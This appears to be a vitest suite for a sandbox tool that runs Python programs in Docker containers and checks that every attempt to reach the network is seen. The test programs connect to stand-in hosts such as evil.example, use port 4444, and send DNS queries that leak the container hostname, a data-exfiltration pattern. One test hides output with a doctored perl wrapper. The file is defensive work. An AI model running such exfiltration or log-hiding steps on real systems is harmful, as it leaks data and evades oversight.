import { chmodSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { localImage } from './equipment/load-stand-in.ts';
import { makeProject, rehearseFolder } from './equipment/rehearse-folder.ts';
import { runTool } from './equipment/run-tool.ts';

const folders: string[] = [];

afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(dirname(folder), { recursive: true, force: true });
});

/** What was seen of the network by a program of these lines, in two cells one after the other. */
async function watch(...program: readonly string[]): Promise<readonly (readonly [string, readonly string[]])[]> {
  return watchOn(localImage, program);
}

async function watchOn(
  base: string,
  program: readonly string[],
): Promise<readonly (readonly [string, readonly string[]])[]> {
  const folder = makeProject({
    Dockerfile: `FROM ${base}\nRUN mkdir /safe_data /safe_outputs /scratch\nCOPY main.py /app/main.py\nCMD ["python3", "/app/main.py"]\n`,
    'main.py': [...shared, ...program, 'open("/safe_outputs/r.csv", "w").write("n\\n1\\n")', ''].join('\n'),
    'rehearsal/safe_data/a.csv': 'id,age\n1,40\n',
  });
  folders.push(folder);
  const flags = { engine: 'docker', builder: 'docker', cell: ['root:read-only', 'high-uid:read-only'] };
  const { evidence } = await rehearseFolder(folder, flags);
  return evidence.cells.map(({ observation }) => [
    observation?.network ?? '',
    (observation?.attempts ?? [])
      .map(({ host, port }) => `${host.replace(/^[0-9a-f]{12}(?=\.own)/, 'own-name')} ${String(port)}`)
      .toSorted(),
  ]);
}

const shared = [
  'import socket, time',
  'def udp(address, port, data=b"x", protocol=0, family=socket.AF_INET):',
  '    try: socket.socket(family, socket.SOCK_DGRAM, protocol).sendto(data, (address, port))',
  '    except OSError as error: print(address, error)',
  'def tcp(address, port, family=socket.AF_INET):',
  '    try: socket.create_connection((address, port), timeout=2)',
  '    except OSError as error: print(address, error)',
  'def question(name):',
  '    labels = b"".join(bytes([len(word)]) + word.encode() for word in name.split("."))',
  '    return b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1"',
];

test('nothing that a program does erases what it tried before', async () => {
  const seen = await watch(
    'tcp("evil.example", 80)',
    'tcp("203.0.113.7", 80)',
    // The addresses by which the rehearsal itself asked, before this run and between runs.
    'for last in range(1, 30): tcp(f"198.18.0.{last}", 9); tcp(f"198.18.0.{last}", 80)',
    'for name in ("a.tre-probe", "0123456789abcdef.tre-probe", "0123456789abcdef.0123456789abcdef.tre-probe"): tcp(name, 9)',
  );
  for (const [network, attempts] of seen) {
    expect(network).toBe('sink');
    expect(attempts).toEqual(
      expect.arrayContaining(['evil.example 80', '203.0.113.7 80', '198.18.0.1 9', 'a.tre-probe 9']),
    );
  }
  expect(seen).toHaveLength(2);
});

test('what is no connection of TCP and no ordinary question is an attempt as well', async () => {
  const seen = await watch(
    'udp("1.1.1.3", 53)',
    'udp("127.0.0.1", 53, b"y")',
    'udp("9.9.9.9", 53, question("direct.example"))',
    'udp("127.0.0.1", 53, question("deadbeefdead.evil.example"))',
    'udp("127.0.0.1", 53, question(socket.gethostname() + ".own.example"))',
    'udp("127.0.0.1", 53, question("4.3.2.1.in-addr.arpa"))',
    'udp("127.0.0.1", 53, question("1.0.0.127.in-addr.arpa"))',
    'udp("127.0.0.1", 53, question(socket.gethostname()))',
    'udp("8.8.4.4", 77, protocol=136)',
    'udp("2001:db8::1", 443, family=socket.AF_INET6)',
    'udp("127.0.0.1", 4444)',
    'tcp("127.0.0.1", 4444)',
    'tcp("::1", 4444, socket.AF_INET6)',
  );
  for (const each of seen)
    expect(each).toEqual([
      'sink',
      [
        '1.1.1.3 53',
        '127.0.0.1 53',
        '2001:db8::1 443',
        '4.3.2.1.in-addr.arpa undefined',
        '8.8.4.4 77',
        'deadbeefdead.evil.example undefined',
        'direct.example undefined',
        'own-name.own.example undefined',
      ],
    ]);
  expect(seen).toHaveLength(2);
});

test('one attempt among much talk to oneself is seen, and where questions were lost nothing is taken for all', async () => {
  const talking = ['end = time.time() + 2', 'while time.time() < end: flood.sendto(data, ("127.0.0.1", port))'];
  const begin = 'flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)';
  const loud = await watch(begin, 'data, port = b"z" * 100, 4444', ...talking, 'udp("8.8.8.1", 4444)', ...talking);
  for (const each of loud) expect(each).toEqual(['sink', ['8.8.8.1 4444']]);
  const lost = await watch(begin, 'data, port = question(socket.gethostname()), 53', ...talking);
  for (const each of lost) expect(each).toEqual(['log', []]);
});

test('a base whose Perl leaves out what it likes hides nothing', async () => {
  const evil = 'localhost/evil/base:1';
  const sieve = '#!/bin/sh\n/usr/bin/perl.real "$@" | grep --line-buffered -v evil\n';
  const folder = makeProject({
    Dockerfile: `FROM ${localImage}\nRUN mv /usr/bin/perl /usr/bin/perl.real\nCOPY perl /usr/bin/perl\n`,
    perl: sieve,
  });
  folders.push(folder);
  chmodSync(join(folder, 'perl'), 0o755);
  runTool('docker', ['build', '--quiet', '--tag', evil, folder]);
  try {
    const seen = await watchOn(evil, ['tcp("evil.example", 80)']);
    expect(seen).toEqual(seen.map(() => ['sink', ['evil.example 80']]));
    expect(seen).toHaveLength(2);
  } finally {
    runTool('docker', ['image', 'rm', '--force', evil]);
  }
});
